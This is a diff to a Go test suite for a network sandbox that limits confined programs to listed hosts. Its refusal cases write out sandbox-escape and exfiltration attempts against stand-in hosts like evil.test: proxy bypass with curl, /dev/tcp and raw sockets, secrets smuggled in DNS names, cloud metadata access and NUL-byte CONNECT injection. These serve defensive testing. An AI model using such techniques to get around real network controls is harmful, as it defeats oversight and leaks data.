@@ -104,7 +104,11 @@ func inside(t *testing.T, left string) {
 		t.Fatal(err)
 	}
 	w := newWorld(t, dir)
-	for file, text := range map[string]string{"/etc/resolv.conf": "nameserver " + nameAddr + "\n", "/etc/hosts": "127.0.0.1 localhost\n"} {
+	accounts, err := os.ReadFile("/etc/passwd")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for file, text := range map[string]string{"/etc/passwd": string(accounts) + "sbxclient:x:65533:65533::/nonexistent:/bin/sh\n", "/etc/resolv.conf": "nameserver " + nameAddr + "\n", "/etc/hosts": "127.0.0.1 localhost\n"} {
 		own := filepath.Join(dir, filepath.Base(file))
 		if err := os.WriteFile(own, []byte(text), 0o644); err != nil {
 			t.Fatal(err)
@@ -238,6 +242,37 @@ func (w *world) serve(dir string) {
 		w.canary("host", l)
 	}
 	w.nameServer()
+	w.secureShell(dir)
+}
+
+// secureShell is a real sshd with the repository.
+func (w *world) secureShell(dir string) {
+	program, err := exec.LookPath("sshd")
+	if err != nil {
+		program = "/usr/sbin/sshd"
+	}
+	if err := os.Mkdir("/run/sshd", 0o755); err == nil {
+		w.t.Cleanup(func() { _ = os.Remove("/run/sshd") })
+	}
+	for _, key := range []string{"key", "hostkey"} {
+		mustRun(w.t, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(dir, key))
+	}
+	config := filepath.Join(dir, "sshd_config")
+	text := "ListenAddress " + webAddr + ":22\nHostKey " + dir + "/hostkey\nAuthorizedKeysFile " + dir + "/key.pub\nStrictModes no\n" +
+		"PermitRootLogin prohibit-password\nUsePAM no\nPidFile none\n"
+	if err := os.WriteFile(config, []byte(text), 0o600); err != nil {
+		w.t.Fatal(err)
+	}
+	cmd := exec.Command(program, "-D", "-e", "-f", config)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
+	w.in(func() { err = cmd.Start() })
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	w.t.Cleanup(func() {
+		_ = cmd.Process.Kill()
+		_ = cmd.Wait()
+	})
 }
 
 // nameServer answers questions for addresses (RFC 1035).
@@ -368,8 +403,22 @@ class Fetch { public static void main(String[] a) throws Exception {
   System.out.println(new String(new URL("http://www.test/").openStream().readAllBytes())); } }
 END
 java -XX:TieredStopAtLevel=1 Fetch.java`, "hello"},
+		{"curl without the proxy", "allow:www.test", `curl -sS --noproxy "*" http://www.test/`, "hello"},
+		{"curl without variables", "allow:example.com", `env -i PATH=$PATH curl -sS --cacert $CA https://example.com/`, "hello"},
+		{"raw socket", "allow:www.test", `python3 raw.py www.test 80`, "hello"},
+		{"raw socket, address", "allow:93.184.216.34", `python3 raw.py 93.184.216.34 80`, "hello"},
+		{"raw socket, not blocking", "allow:www.test", `python3 raw.py www.test 80 nonblocking`, "hello"},
+		{"raw socket of IPv6", "allow:93.184.216.34", `python3 raw.py ::ffff:93.184.216.34 80 six`, "hello"},
+		{"raw sockets of threads", "allow:www.test", `python3 raw.py www.test 80 threads`, "32 times hello"},
+		{"a socket that failed before", "allow:www.test,www.test:1", `python3 raw.py www.test 80 again`, "hello"},
+		{"bash", "allow:www.test", `exec 3<>/dev/tcp/www.test/80 && printf 'GET / HTTP/1.0\r\nHost: www.test\r\n\r\n' >&3 && cat <&3`, "hello"},
+		{"a name is an address of ours", "allow:www.test", `getent ahostsv4 www.test`, "198.18.0.1"},
+		{"a made-up name below a wildcard goes nowhere", "allow:*.test", `getent ahostsv4 secret-in-a-name.evil.test`, "198.18.0.1"},
+		{"go without the proxy", "allow:www.test", `mkdir -p gonet && cd gonet && cp ../fetch.go . && env -u HTTP_PROXY -u http_proxy CGO_ENABLED=0 GOTOOLCHAIN=local GO111MODULE=off go run fetch.go`, "hello"},
+		{"git over ssh", "allow:git.test:22", `rm -rf clone && chmod 600 key && GIT_SSH_COMMAND='ssh -F none -i key -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' git clone -q ssh://root@git.test` + h.world.git + `/repo.git clone && cat clone/README`, "from git"},
 		{"a server of its own", "allow:", `python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 50); do curl -sS http://localhost:8000/ && break; sleep 0.1; done`, "Directory listing"},
 	} {
+		h.scripts()
 		h.world.taken()
 		out, err := h.confined(c.network, c.text)
 		if err != nil || !strings.Contains(out, c.want) || strings.Contains(out, "sbx: refused") {
@@ -427,17 +476,28 @@ func (h *host) refusals() {
 		{"go", "allow:goproxy.test", `mkdir -p gm && cd gm && GOSUMDB=off GOPROXY=http://evil.test go mod download example.test/other@v1.0.0`, "host not listed"},
 		{"host header", "allow:www.test", `curl -sS -H 'Host: www.test' http://evil.test/`, "host not listed"},
 		{"NUL", "allow:www.test", `printf 'CONNECT www.test\0.evil.test:80 HTTP/1.1\r\n\r\n' | python3 talk.py; false`, ""},
-		{"without the proxy", all, `curl -sS --max-time 5 --noproxy "*" http://evil.test/`, ""},
-		{"without the proxy, address", all, `curl -sS --max-time 5 --noproxy "*" http://` + evilAddr + `/`, ""},
-		{"without the variables", all, `env -i PATH=$PATH curl -sS --max-time 5 http://` + evilAddr + `/`, ""},
-		{"raw socket", all, `python3 -c 'import socket; socket.create_connection(("` + evilAddr + `", 80), 5)'`, ""},
-		{"bash", all, `exec 3<>/dev/tcp/` + evilAddr + `/80`, ""},
+		{"without the proxy", "allow:www.test", `curl -sS --max-time 5 --noproxy "*" http://evil.test/`, "host not listed"},
+		{"without the proxy, address", "allow:www.test", `curl -sS --max-time 5 --noproxy "*" http://` + evilAddr + `/`, "host not listed"},
+		{"without the variables", "allow:www.test", `env -i PATH=$PATH curl -sS --max-time 5 http://` + evilAddr + `/`, "host not listed"},
+		{"without the proxy, another port", "allow:www.test", `curl -sS --max-time 5 --noproxy "*" http://www.test:8443/`, "port not listed"},
+		{"without the proxy, redirect", "allow:www.test", `curl -sSL --max-time 5 --noproxy "*" http://www.test/to-evil`, "host not listed"},
+		{"raw socket", "allow:www.test", `python3 raw.py ` + evilAddr + ` 80`, "host not listed"},
+		{"raw socket, not blocking", "allow:www.test", `python3 raw.py ` + evilAddr + ` 80 nonblocking`, "host not listed"},
+		{"raw socket of IPv6", "allow:www.test", `python3 raw.py ::ffff:` + evilAddr + ` 80 six`, "host not listed"},
+		{"raw socket, empty list", "allow:", `python3 raw.py ` + evilAddr + ` 80`, "host not listed"},
+		{"raw socket, metadata", all, `python3 raw.py 169.254.169.254 80`, "metadata address"},
+		{"raw socket, name of metadata", all, `python3 raw.py meta.test 80`, "metadata address"},
+		{"raw socket, name inside", all, `python3 raw.py inside.test 80`, "private address"},
+		{"raw socket, address of the host", all, `python3 raw.py ` + hostAddr + ` 80`, "this host"},
+		{"raw socket, name of the loopback", all, `python3 raw.py self.test 80`, "loopback address"},
+		{"raw socket, the host's loopback", all, `python3 raw.py 127.0.0.1 80`, ""},
+		{"an address that stands for no name", all, `python3 raw.py 198.18.9.9 80`, "special address"},
+		{"bash", "allow:www.test", `exec 3<>/dev/tcp/` + evilAddr + `/80`, "host not listed"},
 		{"name server", all, `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("` + nameAddr + `", 53))'`, ""},
-		{"look-up", all, `getent hosts secret-in-a-name.evil.test`, ""},
+		{"look-up", "allow:www.test", `getent hosts secret-in-a-name.evil.test`, "host not listed"},
+		{"long look-up", "allow:*.test", `getent hosts $(printf 'a%.0s' $(seq 60)).$(printf 'b%.0s' $(seq 60)).$(printf 'c%.0s' $(seq 60)).test`, "long name"},
 	} {
-		if err := os.WriteFile(filepath.Join(h.ws(), "talk.py"), []byte(talk), 0o644); err != nil {
-			h.t.Fatal(err)
-		}
+		h.scripts()
 		h.world.taken()
 		out, err := h.confined(c.network, c.text)
 		visits, lookups := h.world.taken()
@@ -475,6 +535,90 @@ func (h *host) refusals() {
 		h.t.Errorf("control: looked up %v", lookups)
 	}
 }
+
+// scripts puts what the clients run into the workspace.
+func (h *host) scripts() {
+	key, err := os.ReadFile(filepath.Join(filepath.Dir(h.world.git), "key"))
+	if err != nil {
+		h.t.Fatal(err)
+	}
+	for name, text := range map[string]string{"talk.py": talk, "raw.py": raw, "fetch.go": fetch, "key": string(key)} {
+		name = filepath.Join(h.ws(), name)
+		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
+			h.t.Fatal(err)
+		}
+		if err := os.Chown(name, int(h.id), int(h.id)); err != nil {
+			h.t.Fatal(err)
+		}
+	}
+}
+
+// raw knows no proxy.
+const raw = `
+import errno, select, socket, sys, threading
+host, port, how = sys.argv[1], int(sys.argv[2]), (sys.argv + [""])[3]
+def talk(s):
+    s.sendall(b"GET / HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
+    got = b""
+    while True:
+        b = s.recv(65536)
+        if not b: return got.decode()
+        got += b
+def connect():
+    if how == "six":
+        s = socket.socket(socket.AF_INET6)
+        s.connect((host, port))
+    elif how == "nonblocking":
+        s = socket.socket()
+        s.setblocking(False)
+        code = s.connect_ex((host, port))
+        if code not in (0, errno.EINPROGRESS): raise OSError(code, "connect")
+        select.select([], [s], [], 10)
+        code = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+        if code: raise OSError(code, "connect")
+        if s.getblocking(): raise Exception("it blocks now")
+        s.setblocking(True)
+    elif how == "again":
+        s = socket.socket()
+        code = s.connect_ex((host, 1))
+        if code != errno.ECONNREFUSED: raise OSError(code, "connect")
+        s.connect((host, port))
+    else:
+        s = socket.create_connection((host, port), 20)
+    return s
+if how == "threads":
+    good = []
+    def one():
+        if "hello" in talk(connect()): good.append(1)
+    all = [threading.Thread(target=one) for i in range(32)]
+    [t.start() for t in all]
+    [t.join() for t in all]
+    print(len(good), "times hello")
+else:
+    print(talk(connect()))
+`
+
+// fetch is a client in Go, whose sockets do not block.
+const fetch = `package main
+
+import (
+	"fmt"
+	"io"
+	"net"
+	"os"
+)
+
+func main() {
+	c, err := net.Dial("tcp", "www.test:80")
+	if err != nil {
+		fmt.Println(err)
+		os.Exit(1)
+	}
+	fmt.Fprint(c, "GET / HTTP/1.0\r\nHost: www.test\r\n\r\n")
+	text, _ := io.ReadAll(c)
+	fmt.Println(string(text))
+}
+`
 
 // talk sends standard input to the proxy and prints the answer.
 const talk = `
